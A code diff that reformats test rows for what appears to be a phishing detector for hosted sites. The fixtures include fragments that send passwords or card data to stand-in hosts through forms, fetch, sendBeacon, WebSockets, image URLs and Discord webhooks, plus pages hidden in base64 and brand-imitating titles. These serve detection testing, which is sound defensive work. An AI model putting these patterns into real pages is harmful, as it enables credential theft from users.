@@ -1,23 +1,12 @@
 import { assess } from '../../../../lambda/sites/gate/gatekeeper.ts';
 import { filesOf } from '../../../support/build-project.ts';
-import {
-  base64,
-  field,
-  noise,
-  page,
-  type SampleFiles,
-  scripted,
-  site,
-} from '../../../support/gate/sample.ts';
+import { base64, field, noise, page, type SampleFiles, scripted, site } from '../../../support/gate/sample.ts';
 import { testRows } from '../../../support/rows.ts';
 
 const HOSTS = ['pages.example'];
 
 function assessed(files: SampleFiles, entry = 'index.html') {
-  const bytes = Object.entries(files).map(([path, content]): [string, Uint8Array] => [
-    path,
-    Buffer.from(content),
-  ]);
+  const bytes = Object.entries(files).map(([path, content]): [string, Uint8Array] => [path, Buffer.from(content)]);
   return assess(new Map(bytes), entry, HOSTS);
 }
 
@@ -32,11 +21,7 @@ testRows([
   ['a password', body(PASSWORD), 'It asks for a password'],
   ['a password by its name', body(field('Kennwort', '')), 'It asks for a password'],
   ['a card by its labels', body(CARD), 'It asks for a payment card'],
-  [
-    'a card by autocomplete',
-    body('<input autocomplete=cc-number><input autocomplete=cc-csc>'),
-    'payment card',
-  ],
+  ['a card by autocomplete', body('<input autocomplete=cc-number><input autocomplete=cc-csc>'), 'payment card'],
   ['the phrase of a wallet', body(PHRASE), 'phrase or key of a wallet'],
   ['a code', body('<input autocomplete="one-time-code">'), 'a code that a service sent'],
   ['fields in a script', scripted('A page', 'e("input",{type:"password"})'), 'It asks for a password'],
@@ -46,11 +31,7 @@ testRows([
     body(`<form action="https://a.example/">${PASSWORD}</form>`),
     'sends secrets to another host: "a.example"',
   ],
-  [
-    'the action of a button',
-    body(`<form>${PASSWORD}<button formaction="//a.example/"></form>`),
-    '"a.example"',
-  ],
+  ['the action of a button', body(`<form>${PASSWORD}<button formaction="//a.example/"></form>`), '"a.example"'],
   [
     'a form by the base of the page',
     body(`<base href="https://a.example/"><form action="x">${PASSWORD}</form>`),
@@ -78,17 +59,9 @@ testRows([
     '"a.example"',
   ],
   ['XMLHttpRequest', body(`${PASSWORD}<script>r.open('POST','https://a.example/')</script>`), '"a.example"'],
-  [
-    'a beacon',
-    body(`${PASSWORD}<script>navigator.sendBeacon("https://a.example/",d)</script>`),
-    '"a.example"',
-  ],
+  ['a beacon', body(`${PASSWORD}<script>navigator.sendBeacon("https://a.example/",d)</script>`), '"a.example"'],
   ['a socket', body(`${PASSWORD}<script>new WebSocket("wss://a.example/")</script>`), '"a.example"'],
-  [
-    'a picture with what was typed',
-    body(`${PASSWORD}<script>i.src="https://a.example/?d="+v</script>`),
-    '"a.example"',
-  ],
+  ['a picture with what was typed', body(`${PASSWORD}<script>i.src="https://a.example/?d="+v</script>`), '"a.example"'],
   [
     'an address in base64',
     body(`${PASSWORD}<script>fetch(atob("${base64('https://a.example/x')}"),{body:1})</script>`),
@@ -119,18 +92,10 @@ testRows([
     body(`${PASSWORD}<script>fetch('https://discord.com/api/webhooks/1/a',{body:1})</script>`),
     'to a chat',
   ],
-  [
-    'a service for forms',
-    body(`<form action="https://formspree.io/f/a">${PASSWORD}</form>`),
-    'keeps forms for anyone',
-  ],
+  ['a service for forms', body(`<form action="https://formspree.io/f/a">${PASSWORD}</form>`), 'keeps forms for anyone'],
   ['a tunnel', body(`<form action="https://a.ngrok-free.app">${PASSWORD}</form>`), 'nobody known'],
   ['an address of a machine', body(`<form action="http://203.0.113.9/">${PASSWORD}</form>`), 'nobody known'],
-  [
-    'a host that imitates',
-    body(`<form action="https://paypal-login.example/">${PASSWORD}</form>`),
-    'imitates a brand',
-  ],
+  ['a host that imitates', body(`<form action="https://paypal-login.example/">${PASSWORD}</form>`), 'imitates a brand'],
   ['a title', site('PayPal: log in', ''), 'Its title claims to be PayPal'],
   ['a heading', body('<h1>Sign in to your Netflix account</h1>'), 'Its heading claims to be Netflix'],
   ['an alternative text', body('<img alt="Netflix logo">'), 'Its picture claims to be Netflix'],
@@ -156,16 +121,10 @@ testRows([
     ),
     'a page that is encoded',
   ],
-  [
-    'a page in base64',
-    script(`document.write(atob('${base64(page('x', LOG_IN))}'))`),
-    'a page that is encoded',
-  ],
+  ['a page in base64', script(`document.write(atob('${base64(page('x', LOG_IN))}'))`), 'a page that is encoded'],
   [
     'a page in codes',
-    script(
-      `document.write(String.fromCharCode(${[...page('x', LOG_IN)].map((c) => c.charCodeAt(0)).join()}))`,
-    ),
+    script(`document.write(String.fromCharCode(${[...page('x', LOG_IN)].map((c) => c.charCodeAt(0)).join()}))`),
     'a page that is encoded',
   ],
   [
@@ -186,16 +145,8 @@ testRows([
     'It leads to "a.example" at once',
   ],
   ['a location', script('location.href="https://a.example/"'), 'It leads to "a.example" at once'],
-  [
-    '_redirects',
-    { ...body(''), _redirects: '/* https://a.example/:splat 302!\n' },
-    'It leads to "a.example" at once',
-  ],
-  [
-    'a hidden location',
-    script(`location.replace(atob("${base64('https://a.example/')}"))`),
-    'It hides where it leads',
-  ],
+  ['_redirects', { ...body(''), _redirects: '/* https://a.example/:splat 302!\n' }, 'It leads to "a.example" at once'],
+  ['a hidden location', script(`location.replace(atob("${base64('https://a.example/')}"))`), 'It hides where it leads'],
   ['a frame alone', body('<iframe src="https://a.example/"></iframe>'), 'nothing but a page of "a.example"'],
   ['a program', script('location="setup.exe"'), 'It downloads a program'],
   [
@@ -222,23 +173,11 @@ testRows([
   ['a log-in of its own', body(`<form action="/login">${PASSWORD}</form>`), 10],
   ['a log-in at the service itself', body(`<form action="https://a.pages.example/">${PASSWORD}</form>`), 10],
   ['a key of an API', body('<input type="password" placeholder="API key">'), 0],
-  [
-    'buttons of other accounts',
-    body('<h1>Log in</h1><button><img alt="Google">Sign in with Google</button>'),
-    0,
-  ],
+  ['buttons of other accounts', body('<h1>Log in</h1><button><img alt="Google">Sign in with Google</button>'), 0],
   ['pictures of payments', body('<img alt="Visa"><img alt="PayPal"><img alt="Mastercard">'), 0],
-  [
-    'a brand in a sentence',
-    site('Why I left Netflix after ten years', '<h1>Netflix raised its prices</h1>'),
-    0,
-  ],
+  ['a brand in a sentence', site('Why I left Netflix after ten years', '<h1>Netflix raised its prices</h1>'), 0],
   ['a name that is a common word', site('Apple', '<h1>Apple</h1><p>A fruit.</p>'), 0],
-  [
-    'a brand whose form is its own',
-    site('PayPal', `<form action="https://www.paypal.com/">${PASSWORD}</form>`),
-    10,
-  ],
+  ['a brand whose form is its own', site('PayPal', `<form action="https://www.paypal.com/">${PASSWORD}</form>`), 10],
   ['a letter to another host', body('<form action="https://a.example/"><input type="email"></form>'), 5],
   ['a location after a click', script('b.onclick=()=>{location.href="https://a.example/"}'), 0],
   ['a refresh after a minute', body('<meta http-equiv="refresh" content="60; url=https://a.example/">'), 0],
